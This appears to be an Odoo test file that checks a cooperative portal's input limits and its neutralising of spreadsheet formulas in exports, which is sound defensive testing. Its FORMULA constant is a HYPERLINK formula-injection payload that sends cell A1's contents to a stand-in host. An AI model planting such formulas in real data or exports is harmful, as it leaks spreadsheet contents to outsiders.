import json
from io import BytesIO
from time import monotonic
from zipfile import ZipFile

from PIL import Image

from odoo import http
from odoo.tests import tagged

from .common_portal import PortalCase

WORK, WISH = "/my/pot/assignments/save", "/my/pot/spending/save"
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"Open")'


@tagged("post_install", "-at_install", "thorough")
class TestPortalLimits(PortalCase):
    """What nobody means and a program sends: an answer that says what is wrong, and nothing kept."""

    def setUp(self):
        super().setUp()
        self._log_in(self.anna_user)

    def _made(self, model="coop.assignment"):
        return self.env[model].search([("create_uid", "=", self.anna_user.id)], order="id desc", limit=1)

    def _assert_nothing_made(self):
        self.assertFalse(self._made() | self._made())
        self.assertFalse(self._made("coop.spending.request"))

    def test_numbers(self):
        for number, words in (
            ("1" * 1004, "is too large"),
            ("1" + ".000" * 251 + ",00", "is too large"),
            ("1" * 23 + ",00", "is too large"),
            ("10.000.000,00", "is too large"),
            ("12\x00", "do not understand"),
            ("x" * 1004, "do not understand"),
            ("1e23", "do not understand"),
        ):
            for address, values in ((WISH, self._wish(amount=number)), (WORK, self._work(line_price=number))):
                with self.subTest(number[:12], address=address):
                    page = self._post(address, values)
                    error = page.partition('role="alert"')[2].partition("</div>")[0]
                    self.assertIn(words, error)
                    self.assertLess(len(error), 600)
        page = self._post(WORK, self._work(line_price="9999999", line_quantity="9999999"))
        self.assertIn("is too large", page)
        self._assert_nothing_made()

    def test_days(self):
        for day in ("0001-01-01", "9999-12-31", "1999-12-31", "2016-12-30", "2029-01-01"):
            for address, values in (
                (WISH, self._wish(date=day)),
                (WORK, self._work(date_start=day)),
                (WORK, self._work(date_end=day)),
            ):
                with self.subTest(day, address=address):
                    self.assertIn("too long ago or too far ahead", self._post(address, values))
        for day in ("2026-13-01", "\x00", "2026-01-31\x00", "x" * 1004, "10000-01-01"):
            with self.subTest(day[:12]):
                self.assertIn("is no date", self._post(WISH, self._wish(date=day)))
        self._assert_nothing_made()
        self._post(WISH, self._wish(date="2024-02-29"))
        self.assertEqual(str(self._made("coop.spending.request").date), "2024-02-29")

    def test_signs_that_are_none(self):
        names = ("title", "customer_note", "member_note", "line_name")
        self._post(WORK, self._work(**{name: f"a\x00b\x07{name}\x1b" for name in names}))
        work = self._made()
        self.assertEqual(
            (work.title, work.customer_note, work.member_note, work.line_ids.name), tuple(f"ab{name}" for name in names)
        )
        for name in ("title", "reason", "vendor_note"):
            self._post(WISH, self._wish(**{name: "a\x00b 👨‍👩‍👧 é"}))
            self.assertEqual(self._made("coop.spending.request")[name], "ab 👨‍👩‍👧 é")
        for name in ("kind", "category", "amount"):
            self.assertIn('role="alert"', self._post(WISH, self._wish(**{name: "\x00"})))
        for values in ({"partner": "\x00"}, {"line_id": "\x00", "line_name": ""}, {"line_quantity": "\x00"}):
            self.assertIn('role="alert"', self._post(WORK, self._work(**values)))
        self._post("/my/pot/choose", [("member", "\x00")], status=404)
        self._get("/my/pot/movements?level=%00", 404)

    def test_a_picture_that_keeps_the_server_busy(self):
        for kind, side in (("PNG", 12000), ("JPEG", 12000), ("PNG", 4600)):
            file = BytesIO()
            Image.new("L", (side, side)).save(file, kind)
            self.assertLess(len(file.getvalue()), 10 * 1024 * 1024)
            began = monotonic()
            page = self._post(WORK, self._work(), [("camera", f"big.{kind.lower()}", file.getvalue())])
            self.assertIn("has too many points", page)
            self.assertLess(monotonic() - began, 6)
        self._assert_nothing_made()

    def test_a_large_photo_is_kept_readable(self):
        file = BytesIO()
        Image.new("RGB", (8000, 6000)).save(file, "JPEG")
        self._post(WORK, self._work(), [("camera", "receipt.jpg", file.getvalue())])
        photo = self.env["ir.attachment"].search(
            [("res_model", "=", "coop.assignment"), ("res_id", "=", self._made().id)]
        )
        size = Image.open(BytesIO(photo.raw)).size
        # Odoo makes it smaller still, by its own system parameter.
        self.assertLess(max(size), 4001)
        self.assertGreater(max(size), 1500)
        self.assertEqual(size[0] * 3, size[1] * 4)

    # === SPREADSHEETS === #

    def _export(self, model, names, **params):
        """The file that Odoo's own export gives the treasurer."""
        self.treasurer.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(self.treasurer.login, self.treasurer.login)
        data = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": False,
            "domain": [],
            "import_compat": False,
            "context": {"allowed_company_ids": self.company.ids},
        } | params
        kind = data.pop("kind", "xlsx")
        response = self.url_open(
            f"/web/export/{kind}", data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_what_a_member_types_is_no_formula(self):
        for sign in ("=", "{=", "@", "\t=", " =", "\x00=", "=@{="):
            self._log_in(self.anna_user)
            self._post(WORK, self._work(title=f"{sign}1+1", line_name=f"{sign}1+1", member_note=f"{sign}1+1"))
            work = self._made()
            for text in (work.title, work.line_ids.name, work.member_note):
                self.assertEqual(text, "1+1")
        self._log_in(self.anna_user)
        self._post(WORK, self._work(title="+31 6 12345678", member_note="-5 % korting"))
        self.assertEqual((self._made().title, self._made().member_note), ("+31 6 12345678", "-5 % korting"))

    def test_all_that_a_member_can_type(self):
        """Every text of what both forms make, whatever field it is kept in."""
        typed = dict.fromkeys(("title", "customer_note", "member_note", "line_name"), FORMULA)
        self._log_in(self.anna_user)
        self._post(WORK, self._work(**typed))
        work = self._made()
        self._post(WISH, self._wish(**dict.fromkeys(("title", "reason", "vendor_note"), FORMULA)))
        wish = self._made("coop.spending.request")
        found = []
        for record in (work, *work.line_ids, *work.share_ids, wish):
            for field in record._fields.values():
                if field.store and field.type in ("char", "text") and record[field.name]:
                    with self.subTest(field=str(field)):
                        self.assertFalse(record[field.name].lstrip().startswith(("=", "{=", "@")))
                    found += [field.name] if "HYPERLINK" in record[field.name] else []
        self.assertEqual(
            sorted(found), ["customer_note", "member_note", "name", "reason", "title", "title", "vendor_note"]
        )

    def test_every_model_of_ours(self):
        """Whatever stands in a text of any of our models, Odoo's own export gives it as a text."""
        self._settle("2026-01-31")
        self._assignment()
        self.anna.partner_id.name = FORMULA  # Odoo's own page for this lets him
        seen = 0
        for name in sorted(self.env.registry):
            model = self.env[name].sudo().with_context(active_test=False)
            if not name.startswith("coop.") or model._abstract or model._transient:
                continue
            row = model.search([], limit=1)
            names = [field.name for field in model._fields.values() if field.store and field.type in ("char", "text")]
            partners = [field.name for field in model._fields.values() if field.comodel_name == "res.partner"]
            if not row:
                continue
            row.read(names)
            self.env.flush_all()
            for field in names:  # as if it had been typed; what is checked when it is written is another matter
                row._fields[field]._update_cache(row, FORMULA)
            columns = [*names, *(f"{field}/name" for field in partners if row._fields[field].type == "many2one")]
            with self.subTest(model=name):
                for text in row.export_data(columns)["datas"][0]:
                    self.assertFalse(isinstance(text, str) and text.startswith(("=", "{=", "@")), text)
                    seen += isinstance(text, str) and text.startswith("'=")
            row.invalidate_recordset(flush=False)
        self.assertGreater(seen, 25)

    def test_a_pivot(self):
        table = {
            "title": "Assignments",
            "model": "coop.assignment",
            "measure_count": 1,
            "col_group_headers": [[{"title": FORMULA, "width": 1, "height": 1}]],
            "measure_headers": [{"title": FORMULA, "is_bold": False}],
            "rows": [{"indent": 0, "title": FORMULA, "values": [{"value": 12.5}, {"value": FORMULA}]}],
        }
        self.authenticate(self.treasurer.login, self.treasurer.login)
        for model, formulas in (("coop.assignment", 0), ("res.partner", 4)):
            values = {"data": json.dumps({**table, "model": model}), "csrf_token": http.Request.csrf_token(self)}
            response = self.url_open("/web/pivot/export_xlsx", data=values)
            self.assertEqual(response.status_code, 200)
            with self.subTest(model), ZipFile(BytesIO(response.content)) as book:
                sheet = book.read("xl/worksheets/sheet1.xml")
                self.assertEqual(sheet.count(b"<f>"), formulas, "Odoo's own stay as they are")
                self.assertIn(b"<v>12.5</v>", sheet)

    def test_what_anybody_typed_is_no_formula_in_an_export(self):
        self._assignment(title=FORMULA, note=f"@{FORMULA}", customer_note="\t=1")
        names = ["title", "note", "customer_note", "share_ids/assignment_id/title"]
        for params in ({}, {"groupby": ["title"]}, {"groupby": ["partner_id", "title"]}, {"import_compat": True}):
            with self.subTest(params), ZipFile(BytesIO(self._export("coop.assignment", names, **params))) as book:
                sheet = book.read("xl/worksheets/sheet1.xml")
                self.assertIn(b"HYPERLINK", book.read("xl/sharedStrings.xml"))
                self.assertNotIn(b"<f>", sheet)
                self.assertNotIn(b"<hyperlink ", sheet)
        text = self._export("coop.assignment", names, kind="csv").decode()
        self.assertIn("'=HYPERLINK", text)
        for start in ('"=', '"@', '"\t', ",=", "\n="):
            self.assertNotIn(start, text)

    def test_other_exports_stay(self):
        self.partner_a.ref = "@1"
        text = self._export("res.partner", ["ref"], kind="csv").decode()
        self.assertIn('"@1"', text)
